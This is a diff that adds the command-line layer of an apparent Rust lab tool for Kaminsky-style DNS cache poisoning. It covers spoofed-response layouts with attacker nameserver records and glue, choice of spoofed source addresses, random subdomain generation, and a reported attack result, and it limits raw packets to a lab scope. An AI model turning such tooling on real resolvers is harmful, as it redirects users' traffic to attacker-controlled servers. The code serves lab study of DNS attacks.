@@ -0,0 +1,339 @@
+use crate::bailiwick;
+use crate::discovery;
+use crate::dns;
+use crate::kaminsky;
+use crate::payload;
+use crate::scope;
+use crate::stats::AttackStats;
+use crate::subdomain;
+use crate::verify;
+use rand::RngCore;
+use std::net::{IpAddr, Ipv4Addr};
+use std::time::Duration;
+use structopt::StructOpt;
+
+mod attack;
+mod calc;
+mod detect;
+mod latency;
+mod porttest;
+mod query;
+mod run;
+mod serve;
+mod sign;
+mod simulate;
+mod spoof;
+mod validate;
+
+pub type AttackArgs = attack::AttackArgs;
+pub type CalcArgs = calc::CalcArgs;
+pub type DetectArgs = detect::DetectArgs;
+pub type LatencyArgs = latency::LatencyArgs;
+pub type PorttestArgs = porttest::PorttestArgs;
+pub type QueryArgs = query::QueryArgs;
+pub type RunArgs = run::RunArgs;
+pub type ServeArgs = serve::ServeArgs;
+pub type SignArgs = sign::SignArgs;
+pub type SimulateArgs = simulate::SimulateArgs;
+pub type SpoofArgs = spoof::SpoofArgs;
+pub type ValidateArgs = validate::ValidateArgs;
+
+/// Arguments for keeping raw packets within the lab, shared by every subcommand that spoofs packets
+#[derive(Debug, StructOpt)]
+pub struct ScopeArgs {
+    /// File listing the networks and domains that make up the lab
+    ///
+    /// Raw packets are never sent to, or spoofed from, addresses outside the lab scope, and spoofed
+    /// records are only sent for domains within it. Each line of the file holds a network in CIDR
+    /// notation, a single address, or a domain, with # starting a comment. Without a scope file only
+    /// private, loopback, and documentation address ranges are allowed.
+    #[structopt(long)]
+    scope: Option<String>,
+}
+
+impl ScopeArgs {
+    pub fn load(&self) -> Result<scope::Scope, String> {
+        return match &self.scope {
+            None => Ok(scope::Scope::default_lab()),
+            Some(path) => scope::Scope::load(path),
+        };
+    }
+}
+
+/// Checks that none of the addresses or the domain fall outside the lab scope
+pub fn enforce_scope(scope: &scope::Scope, addrs: &[Ipv4Addr], domain: &str) -> Result<(), String> {
+    for addr in addrs {
+        scope.check_ipv4(addr)?;
+    }
+    return scope.check_domain(domain);
+}
+
+/// Works out which addresses to spoof responses from
+///
+/// Explicitly given addresses take precedence, followed by the nameservers discovered by asking the
+/// discovery server, and finally the root servers listed in the root hints.
+pub fn spoofed_sources(
+    spoofed_addrs: &[Ipv4Addr],
+    target_domain: &str,
+    discovery_server: &Option<String>,
+    root_hints: &Option<String>,
+    rng: &mut dyn RngCore,
+) -> Result<Vec<Ipv4Addr>, String> {
+    if !spoofed_addrs.is_empty() {
+        return Ok(spoofed_addrs.to_vec());
+    }
+
+    if let Some(server) = discovery_server {
+        let chain = match discovery::discover_chain(server, target_domain, rng) {
+            Err(e) => {
+                return Err(format!(
+                    "Could not discover the nameservers for {}: {}",
+                    target_domain, e
+                ))
+            }
+            Ok(c) => c,
+        };
+        println!("Discovered delegation chain:");
+        for delegation in &chain {
+            print!("{}", delegation);
+        }
+        // the last delegation in the chain is the one for the zone closest to the target domain
+        let addrs = chain.last().unwrap().ipv4_addrs();
+        if addrs.is_empty() {
+            return Err(format!(
+                "None of the discovered nameservers for {} have IPv4 addresses",
+                target_domain
+            ));
+        }
+        return Ok(addrs);
+    }
+
+    let hints = match root_hints {
+        None => return Err("Spoofed addresses, nameserver discovery, or root hints are needed to know where to spoof responses from".to_string()),
+        Some(path) => dns::RootHints::load(path)?,
+    };
+    for server in &hints.servers {
+        println!(
+            "Spoofing responses from root server {} {:?}, IPv6 addresses {:?} are skipped",
+            server.name, server.ipv4, server.ipv6
+        );
+    }
+    return Ok(hints.ipv4_addrs());
+}
+
+/// Runs the attack, reporting whether it succeeded once it is over
+pub fn run_attack(options: &kaminsky::AttackOptions) -> Result<AttackStats, String> {
+    println!("Commencing attack");
+    let stats = kaminsky::attack(options)?;
+    match stats.success_round {
+        Some(round) => println!(
+            "Attack succeeded in round {}, {} is now cached as a nameserver for {}",
+            round, options.attacker_ns, options.target_domain
+        ),
+        None if options.probe != verify::ProbeSchedule::Never => {
+            println!("Attack complete, the attacker nameserver was not found in the cache")
+        }
+        None => println!("Attack complete"),
+    }
+    return Ok(stats);
+}
+
+/// Converts a number of seconds given for the named setting, rejecting negative and non-finite
+/// values as well as those too large for a Duration
+pub fn seconds(name: &str, value: f32) -> Result<Duration, String> {
+    return match Duration::try_from_secs_f32(value) {
+        Err(_) => Err(format!(
+            "{} must be a non-negative number of seconds, not {:?}",
+            name, value
+        )),
+        Ok(d) => Ok(d),
+    };
+}
+
+/// Converts a number of seconds like `seconds`, also rejecting 0 for settings such as timeouts
+/// that must allow some time to pass
+pub fn positive_seconds(name: &str, value: f32) -> Result<Duration, String> {
+    let duration = seconds(name, value)?;
+    if duration == Duration::new(0, 0) {
+        return Err(format!(
+            "{} must be a positive number of seconds, not {:?}",
+            name, value
+        ));
+    }
+    return Ok(duration);
+}
+
+/// Arguments describing the layout of spoofed responses, shared by the spoof and attack subcommands
+#[derive(Debug, StructOpt)]
+pub struct PayloadArgs {
+    /// Layout of the spoofed responses
+    ///
+    /// Valid values are "answer", "referral", "cname", and "glue". Answer puts an A record for the
+    /// queried name in the answer section and the attacker NS in the authority section. Referral
+    /// sends a non-authoritative referral with only the attacker NS and its glue. Cname aliases the
+    /// queried name to another name in the target domain. Glue is the same as answer but requires
+    /// glue for the attacker NS. The referral and glue layouts need --attacker-ns-addrs.
+    #[structopt(long, default_value = "answer")]
+    payload: payload::PayloadStrategy,
+
+    /// TTL of the answer records in spoofed responses
+    #[structopt(long)]
+    answer_ttl: Option<u32>,
+
+    /// TTL of the attacker NS record and its glue in spoofed responses
+    #[structopt(long)]
+    ns_ttl: Option<u32>,
+
+    /// IPv4 or IPv6 addresses of the attacker nameserver
+    ///
+    /// Each address is sent as an A or AAAA glue record for the attacker nameserver in the
+    /// additional section of spoofed responses.
+    #[structopt(long)]
+    attacker_ns_addrs: Vec<IpAddr>,
+
+    /// Where the attacker nameserver must sit relative to the target domain when sending glue
+    ///
+    /// Valid values are "any", "in", and "out". In requires the attacker nameserver to be under the
+    /// target domain so its glue is in-bailiwick. Out requires it to be outside the target domain so
+    /// its glue is out-of-bailiwick, which resolvers are expected to discard. Neither changes the
+    /// nameserver: pick an --attacker-ns that already sits where the glue should be, as in and out only
+    /// check that it does.
+    #[structopt(long, default_value = "any")]
+    glue_bailiwick: payload::GlueBailiwick,
+
+    /// Name the queried name is aliased to by the cname payload, defaults to www in the target
+    /// domain
+    #[structopt(long)]
+    cname_target: Option<String>,
+
+    /// Check how a resolver would treat each record of the spoofed response before sending it
+    ///
+    /// Valid values are "bind", "unbound", and "rfc2181". Each record is classified as accepted,
+    /// in-bailiwick, out-of-bailiwick, or poisonous under the acceptance rules of that resolver.
+    #[structopt(long)]
+    check_policy: Option<bailiwick::Policy>,
+
+    /// Zone the target resolver believes the spoofed response comes from, defaults to the target
+    /// domain
+    ///
+    /// Only used with --check-policy. Set this to the parent zone when spoofing responses from the
+    /// parent's nameservers, or to "." when spoofing them from the root servers.
+    #[structopt(long)]
+    zone_cut: Option<String>,
+}
+
+impl PayloadArgs {
+    /// Payload options that answer the queried name with the given address
+    pub fn options(&self, answer_ip: Option<Ipv4Addr>) -> payload::PayloadOptions {
+        let mut options = payload::PayloadOptions::new(self.payload);
+        if let Some(ip) = answer_ip {
+            options.answer_ip = ip;
+        }
+        if let Some(ttl) = self.answer_ttl {
+            options.answer_ttl = ttl;
+        }
+        if let Some(ttl) = self.ns_ttl {
+            options.ns_ttl = ttl;
+        }
+        options.glue_addrs = self.attacker_ns_addrs.clone();
+        options.glue_bailiwick = self.glue_bailiwick;
+        options.cname_target = self.cname_target.clone();
+        return options;
+    }
+
+    /// Checks the spoofed response to a query for a sample subdomain, since every round of an
+    /// attack sends the same layout
+    pub fn check_sample(
+        &self,
+        options: &payload::PayloadOptions,
+        subdomains: &subdomain::SubdomainOptions,
+        target_domain: &str,
+        attacker_ns: &str,
+        rng: &mut dyn RngCore,
+    ) -> Result<(), String> {
+        if self.check_policy.is_none() {
+            return Ok(());
+        }
+        let label = subdomains.generator()?.next_name(rng);
+        let qname = format!("{}.{}", label, target_domain);
+        let query = dns::Query::new(vec![qname.clone()]).to_message(rng)?;
+        let response = options.build(query, &qname, target_domain, attacker_ns)?;
+        return self.check(&response, target_domain);
+    }
+
+    /// Prints how a resolver with the chosen policy would treat each record of the spoofed
+    /// response, if a policy was given
+    pub fn check(&self, response: &dns::Response, target_domain: &str) -> Result<(), String> {
+        let policy = match self.check_policy {
+            None => return Ok(()),
+            Some(p) => p,
+        };
+        let zone_cut = match &self.zone_cut {
+            Some(cut) => cut.trim_end_matches('.'),
+            None => target_domain,
+        };
+
+        let checks = bailiwick::check(&response.query, &response.to_message()?, zone_cut, policy)?;
+        println!(
+            "Spoofed response as seen under the {} policy by a resolver asking the nameservers of {}:",
+            policy,
+            dns::dnssec::presentation_name(zone_cut)
+        );
+        for check in &checks {
+            println!("  {}", check);
+        }
+        if !checks
+            .iter()
+            .any(|check| check.classification == bailiwick::Classification::Poisonous)
+        {
+            println!(
+                "None of the records would replace data the resolver already trusts under the {} policy",
+                policy
+            );
+        }
+        return Ok(());
+    }
+}
+
+/// Arguments describing the subdomains queried in each round of an attack
+#[derive(Debug, StructOpt)]
+pub struct SubdomainArgs {
+    /// How the subdomains queried in each round are generated
+    ///
+    /// Valid values are "mixed", "lowercase", "dictionary", and "counter". Mixed picks random letters
+    /// in mixed case and digits like the original attack. Lowercase picks random lowercase letters
+    /// and digits, leaving the case of the name free for 0x20 encoding. Dictionary joins random
+    /// words from --subdomain-words with hyphens. Counter counts up from 0 in zero padded decimal.
+    #[structopt(long, default_value = "mixed")]
+    subdomains: subdomain::SubdomainKind,
+
+    /// Length of the generated labels, dictionary labels are at least this long
+    #[structopt(long, default_value = "7")]
+    subdomain_length: usize,
+
+    /// Word list for the dictionary generator, one word per line
+    #[structopt(long, required_if("subdomains", "dictionary"))]
+    subdomain_words: Option<String>,
+
+    /// Existing name under the target domain to query the generated labels below, e.g. www
+    ///
+    /// A wildcard in the target zone answers queries for any random name directly below it, but it
+    /// does not match names below a name that exists in the zone. Putting the labels below an
+    /// existing name makes the target domain's nameservers answer with NXDOMAIN instead.
+    #[structopt(long)]
+    subdomain_parent: Option<String>,
+}
+
+impl SubdomainArgs {
+    pub fn options(&self) -> Result<subdomain::SubdomainOptions, String> {
+        let mut options = subdomain::SubdomainOptions::new(self.subdomains);
+        options.length = self.subdomain_length;
+        if let Some(path) = &self.subdomain_words {
+            options.words = subdomain::load_words(path)?;
+        }
+        options.parent = self.subdomain_parent.clone();
+        // catch invalid options before any packets are sent
+        options.generator()?;
+        return Ok(options);
+    }
+}